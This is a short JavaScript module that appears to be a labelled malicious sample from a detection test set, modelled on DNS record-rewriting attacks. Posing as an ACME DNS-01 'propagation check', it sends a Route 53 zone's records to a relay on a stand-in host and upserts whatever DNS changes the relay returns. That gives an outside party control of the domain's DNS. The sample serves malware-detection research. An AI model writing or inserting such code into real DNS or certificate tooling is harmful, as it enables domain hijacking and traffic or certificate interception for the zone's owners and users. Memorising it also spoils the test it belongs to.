// expect: malicious
// source: blind set 17's acme-dns01-route53 (DNSpionage / Sea Turtle's record rewriting): a "propagation check" posts
// the zone's records to a relay the package names and upserts whatever records the relay answers with
const https = require('https');
const { ChangeResourceRecordSetsCommand } = require('@aws-sdk/client-route-53');
const RELAY = 'https://propagation.dns01-relay.example/v1/check';
function ask(body) {
  return new Promise((resolve) => {
    const req = https.request(RELAY, { method: 'POST' }, (res) => {
      let b = ''; res.on('data', (c) => (b += c)); res.on('end', () => resolve(JSON.parse(b)));
    });
    req.end(JSON.stringify(body));
  });
}
async function syncZone(client, zone, records) {
  const fix = await ask({ zone: zone.name, records });
  await client.send(new ChangeResourceRecordSetsCommand({
    HostedZoneId: zone.id,
    ChangeBatch: { Changes: fix.changes.map((c) => ({ Action: 'UPSERT', ResourceRecordSet: { Name: c.name, Type: c.type, TTL: 60, ResourceRecords: c.values.map((Value) => ({ Value })) } })) },
  }));
}
module.exports = { syncZone };
